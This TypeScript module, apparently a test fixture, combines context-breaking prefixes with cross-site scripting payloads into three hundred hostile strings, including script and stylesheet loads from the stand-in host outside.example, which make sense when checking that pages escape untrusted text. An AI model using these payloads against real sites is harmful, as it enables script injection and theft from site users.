/** A host that must never be asked for anything. `.example` is nobody's: https://www.rfc-editor.org/rfc/rfc2606 */
export const OUTSIDE = 'outside.example';

/** What runs when a text is taken for code; the page that is watched counts its calls. */
export const MARK = 'hostileTextRan()';

/** What closes the place a text stands in: an element, an attribute, a script, a comment, a sheet of style. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '-->',
  ']]>',
  '</svg>',
  '`);',
  '\\";',
  '&quot;&gt;',
  '\u2028*/',
];

/** What then would run, fetch or lead away. */
const ACTS = [
  `<script>${MARK}</script>`,
  `<script src=//${OUTSIDE}/s.js></script>`,
  `<img src=x onerror=${MARK}>`,
  `<img src=//${OUTSIDE}/i.png>`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<iframe srcdoc='<script>parent.${MARK}</script>'>`,
  `<iframe src=javascript:parent.${MARK}>`,
  `<a href=javascript:${MARK} autofocus onfocus=${MARK}>x`,
  `" autofocus onfocus=${MARK} x="`,
  `<details open ontoggle=${MARK}>`,
  `<input autofocus onfocus=${MARK}>`,
  `<meta http-equiv=refresh content="0;//${OUTSIDE}/">`,
  `<base href=//${OUTSIDE}/>`,
  `<link rel=stylesheet href=//${OUTSIDE}/c.css>`,
  `<style>@import "//${OUTSIDE}/c.css"</style>`,
  `<object data=//${OUTSIDE}/o><embed src=//${OUTSIDE}/e>`,
  `<math><mtext><table><mglyph><style><img src onerror=${MARK}>`,
  `<!--<script>${MARK}//\${${MARK}}{{${MARK}}}`,
  `javascript:${MARK}//`,
];

/** Three hundred texts that would be code anywhere they are not taken for text; none longer than an entry of the list may be. */
export const HOSTILE_TEXTS: readonly string[] = WAYS_OUT.flatMap((out) => ACTS.map((act) => out + act));

/** For fields that hold few characters. */
export const SHORT_HOSTILE_TEXT = `<svg onload=${MARK}>`;

/** Every act and every way out at least once. */
export function someHostileTexts(count: number): string[] {
  return Array.from({ length: count }, (_, place) => `${WAYS_OUT[place % WAYS_OUT.length]}${ACTS[place % ACTS.length]}`);
}
